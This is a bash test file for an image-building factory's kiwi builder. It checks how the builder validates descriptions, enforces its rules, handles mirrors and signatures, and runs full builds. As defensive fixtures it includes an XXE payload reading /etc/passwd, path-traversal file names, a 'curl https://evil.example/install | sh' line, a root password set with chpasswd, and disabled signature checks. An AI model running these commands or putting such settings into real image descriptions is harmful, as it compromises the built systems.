# shellcheck shell=bash
# Cases of kiwi: what is told of a description before the build, and builds.
# shellcheck disable=SC2016 # jq programs stand in single quotes
# shellcheck disable=SC2034,SC2154 # some variables are set by run and harness.bash, or read there

FULL_CASES+=(case_kiwi_builds_the_debian_of_the_sample_and_it_passes_its_tests)

# write_kiwi_input [JQ-FILTER [JQ-ARGUMENTS]] - the sample's profile, with this machine's mirrors
write_kiwi_input() {
  local filter=${1:-.} sample
  shift || :
  sample=$(python3 -c 'import json, sys, yaml
print(json.dumps(next(yaml.safe_load_all(open(sys.argv[1])))["spec"]["builder"]))' "$repository/config/samples/debian-12-kiwi.yaml")
  write_input ".profile.builder = \$sample | $filter" --argjson sample "$sample" "$@"
}

# refused REASON MESSAGE-PATTERN JQ-FILTER - prepare says so
refused() {
  write_kiwi_input "$3"
  stages source
  stage prepare
  expect prepare 1 Failed "$1" "$2"
}

# edit FILE OLD NEW - a filter that changes a file of the description
edit() {
  jq -nr --args '$ARGS.positional | map(@json)
    | ".profile.builder.kiwi.files[\(.[0])] |= (split(\(.[1])) | join(\(.[2])))"' "$@"
}

case_kiwi_is_told_which_description_there_is() {
  refused DescriptionNotFound 'set description, .* or files' '.profile.builder.kiwi = {}'
  refused DescriptionNotFound 'neither a config.xml nor a file \*.kiwi' '.profile.builder.kiwi.files |= del(.["config.xml"])'
  refused DescriptionNotFound "has no folder 'images/none'" '.profile.builder.kiwi = {description: "images/none"}'
  refused DescriptionAmbiguous 'has config.xml, other.kiwi' '.profile.builder.kiwi.files["other.kiwi"] = "<image/>"'
  refused InvalidDescription 'reads XML only' '.profile.builder.kiwi.files = {"config.yaml": "image:"}'
  refused InvalidDescription "'../x' has to be a path below" '.profile.builder.kiwi.files["../x"] = ""'
  refused InvalidDescription "'/etc/x' has to be a path below" '.profile.builder.kiwi.files["/etc/x"] = ""'
  refused InvalidDescription "'../x' has to be a folder below" '.profile.builder.kiwi = {description: "../x"}'
}

case_kiwi_names_file_and_line_of_what_is_wrong() {
  refused InvalidDescription '^config.xml:9: .*tag mismatch' "$(edit config.xml '</version>' '</versoin>')"
  refused InvalidDescription '^config.xml:15: .*bootlaoder' "$(edit config.xml '<bootloader ' '<bootlaoder ')"
  refused InvalidDescription '^config.xml:14: .*extt' "$(edit config.xml 'filesystem=' 'extt=')"
  refused InvalidDescription '^config.xml:14: the image type is iso' "$(edit config.xml 'image="oem"' 'image="iso"')"
  refused InvalidDescription "^config.xml:10: packagemanager zypper cannot read repository 'default' of the type Apt" \
    "$(edit config.xml '>apt<' '>zypper<')"
  refused InvalidDescription '^config.xml: a DOCTYPE is not allowed' \
    "$(edit config.xml '<image ' '<!DOCTYPE image [<!ENTITY x SYSTEM "file:///etc/passwd">]><image ')"
  refused InvalidDescription '^config.xml:3: include from="/etc/x.xml"' \
    "$(edit config.xml '<description ' '<include from="/etc/x.xml"/><description ')"
  refused KiwiProfileNotFound "has no profile 'cloud': it has none" '.profile.builder.kiwi.profiles = ["cloud"]'
  refused KiwiProfileNotFound "has no profile 'cloud': it has small, large" "$(edit config.xml '<preferences>' \
    '<profiles><profile name="small" description="s"/><profile name="large" description="l"/></profiles><preferences>') |
    .profile.builder.kiwi.profiles = [\"cloud\"]"
}

# against_the_rules - a filter: all that the factory has rules for
against_the_rules() {
  edit config.xml 'password="!"' 'password="$6$salt$hash"'
  printf ' | '
  edit config.xml 'signatures>true' 'signatures>false'
  printf ' | '
  edit config.xml '<packages type="image">' \
    '<repository type="apt-deb" package_gpgcheck="false"><source path="http://evil.example/debian"/></repository><packages type="image">'
  printf ' | '
  edit config.sh 'set -eu' $'set -eu\ncurl https://evil.example/install | sh\necho root:x | chpasswd\n# see https://docs.example'
}

case_kiwi_tells_or_refuses_what_is_against_the_rules() {
  local warning description
  write_kiwi_input "$(against_the_rules)"
  stages source prepare
  check "all are found" test "$(value prepare '.warnings | length')" = 6
  for warning in 'config.xml:[0-9]+: sets a password for root' 'config.xml:11: switches signature checks off' \
    'config.xml:[0-9]+: switches signature checks off \(package_gpgcheck\)' 'config.xml:[0-9]+: names evil.example' \
    'config.sh:3: names evil.example' 'config.sh:4: sets a password for root'; do
    check "a warning" grep -qE "^$warning" <<<"$(value prepare '.warnings[]')"
  done
  check "counted in the message" grep -q 'with 6 warnings' "$directory/prepare.result"
  description="$directory/workspace/imagefactory-$uid/description/config.xml"
  check "only the profile's repositories are left" test -z "$(grep evil.example "$description")"
  check "signature checks are on" test "$(grep -c 'signatures>true\|signatures>false' "$description")" = 1
  check "signature checks are on" grep -q 'signatures>true' "$description"
  refused DescriptionRefused 'breaks 6 of the factory.s rules.*config.xml:.*config.sh:4' \
    "$(against_the_rules) | .policies.kiwiDescriptions = \"Refuse\""
  write_kiwi_input '.policies.kiwiDescriptions = "Refuse"'
  stages source prepare
}

case_kiwi_takes_a_description_from_git_and_the_repositories_of_the_profile() {
  local source="$directory/input/source" state
  mkdir -p "$source/images/debian"
  write_kiwi_input
  jq -r '.profile.builder.kiwi.files["config.xml"]' "$directory/input/build.json" |
    sed 's/image="oem"/& format="qcow2"/' >"$source/images/debian/debian.kiwi"
  git init -q -b main "$source"
  git -C "$source" add -A
  git -C "$source" -c user.name=t -c user.email=t@example.org commit -qm description
  serve_source
  write_kiwi_input '.profile.source.git = {url: $sourceUrl, ref: "main", path: "images"}
    | .profile.builder.kiwi = {description: "debian"}
    | .profile.repositories[0] += {imageUrl: "http://deb.example/debian", architectures: ["amd64"], priority: 600,
        checkValidUntil: false}
    | .profile.image.sizeGiB = 3
    | .profile.repositories += [.profile.repositories[0] + {name: "tools", suite: "bookworm-updates", buildOnly: true}]'
  stages source prepare
  state="$directory/workspace/imagefactory-$uid/state/kiwi"
  check "one disk is what kiwi makes" test -z "$(grep qcow2 "$directory/workspace/imagefactory-$uid/description/config.xml")"
  check "of the profile's size" grep -q '<size unit="G">3</size>' "$directory/workspace/imagefactory-$uid/description/config.xml"
  check "told" grep -q 'ignored in the description: format=' "$directory/prepare.log"
  check "the build's mirror" grep -qx "URIs: $mirror" "$state/repositories/default.sources"
  check "its own key" grep -qx 'Signed-By: /workspace/.*/keyrings/default.gpg' "$state/repositories/default.sources"
  check "its architectures" grep -qx 'Architectures: amd64' "$state/repositories/default.sources"
  check "its dates are waived" grep -qx 'Check-Valid-Until: no' "$state/repositories/default.sources"
  check "its priority" grep -qx 'Pin-Priority: 600' "$state/repositories/default.pref"
  check "the image's mirror" grep -q 'http://deb.example/debian bookworm main' "$state/files/etc/apt/sources.list.d/default.list"
  check "the image does not know the other" test ! -e "$state/files/etc/apt/sources.list.d/tools.list"
}

# start_mirror - a signed repository 'extra' without packages; sets mirror_directory, mirror_url and mirror_key
start_mirror() {
  local port suite
  mirror_directory="$directory/mirror"
  suite="$mirror_directory/dists/extra"
  mkdir -p "$suite/main/binary-amd64"
  : >"$suite/main/binary-amd64/Packages"
  cat >"$suite/Release" <<END
Origin: Extra
Suite: extra
Codename: extra
Architectures: amd64
Components: main
Date: $(LC_ALL=C date -Ru)
SHA256:
 $(sha256sum <"$suite/main/binary-amd64/Packages" | cut -d' ' -f1) 0 main/binary-amd64/Packages
END
  GNUPGHOME=$(mktemp -d /tmp/gnupg.XXXXXX)
  export GNUPGHOME
  gpg --batch --quiet --pinentry-mode loopback --passphrase '' --quick-generate-key 'Extra <extra@example.org>' ed25519 sign never
  gpg --batch --quiet --pinentry-mode loopback --passphrase '' --clearsign --output "$suite/InRelease" "$suite/Release"
  mirror_key=$(gpg --armor --export)
  gpgconf --kill all
  rm -rf "$GNUPGHOME"
  unset GNUPGHOME
  serve "$mirror_directory"
  mirror_url="http://127.0.0.1:$port"
}

case_kiwi_fails_when_one_mirror_fails_after_it_was_verified() {
  start_mirror
  write_kiwi_input '.profile.repositories += [{name: "extra", url: $url, suite: "extra", keyring: $key}]' \
    --arg url "$mirror_url" --arg key "$mirror_key"
  stages source prepare
  touch "$mirror_directory/.down"
  stage build
  expect build 75 Failed MirrorUnreachable "repository 'extra' failed.*$mirror_url.* 503"
  check "nothing left" test -z "$(traces_of "$uid")"
}

case_kiwi_fails_when_a_mirror_gives_what_another_key_signed() {
  start_mirror
  write_kiwi_input '.profile.repositories += [{name: "extra", url: $url, suite: "extra", keyring: $key}]' \
    --arg url "$mirror_url" --arg key "$mirror_key"
  stages source prepare
  curl --silent --output "$mirror_directory/dists/extra/InRelease" "$mirror/dists/$codename/InRelease"
  stage build
  expect build 1 Failed RepositorySignatureInvalid 'NO_PUBKEY|is not signed|not be verified'
}

case_kiwi_names_a_package_that_no_repository_has() {
  write_kiwi_input "$(edit config.xml '"zstd"' '"no-such-package"')"
  stages source prepare
  stage build
  expect build 1 Failed PackageNotFound "no-such-package"
  check "nothing left" test -z "$(traces_of "$uid")"
}

case_kiwi_names_a_script_of_the_description_that_fails() {
  write_kiwi_input '.profile.builder.kiwi.files["post_bootstrap.sh"] = "echo out of luck >&2; exit 7"'
  stages source prepare
  stage build
  expect build 1 Failed BuildFailed "post_bootstrap.sh"
}

case_kiwi_that_is_cancelled_releases_all_it_held() {
  local code=0
  write_kiwi_input
  stages source prepare
  begin build
  until_seen 'phase installing-system' "$directory/build.log"
  kill -TERM "$(init_of_container)"
  wait "$container" || code=$?
  expect build 143 Failed Cancelled
  check "nothing left" test -z "$(traces_of "$uid")"
}

case_kiwi_builds_the_debian_of_the_sample_and_it_passes_its_tests() {
  local cold build
  write_kiwi_input
  stages preflight source configure prepare build
  cold=$(value build .seconds)
  check "the version is known" test "$(value configure '.versions.kiwi | test("^[0-9]+[.]")')" = true
  # Once more with the packages of the cache: it is this image that has to pass.
  stages build package
  check "the packages come from the cache" test "$(value build .cacheHit)" = true
  build="$directory/workspace/imagefactory-$uid"
  check "what it was made from is kept" test "$(tar -tzf "$build/output/config.tar.gz" | grep -cE \
    '^config/(description/config.xml|packages/config.xml|kiwi/keyrings/default.gpg|manifests/.*[.]packages|manifests/kiwi.result.json)$')" = 5
  mkdir "$build/fetched"
  mv "$build"/output/*.qcow2 "$build/output/files.hashdeep" "$build/fetched/"
  chown -R 65532:65532 "$directory/workspace"
  stage test TESTER=yes
  expect test 0 Succeeded Succeeded
  check "all tests pass: $(jq -c .data "$directory/test.result")" test "$(value test .verdict)" = Passed
  echo "note: $cold s without the cache, $(value build .seconds) s with it; $(jq -r .message "$directory/test.result")"
}
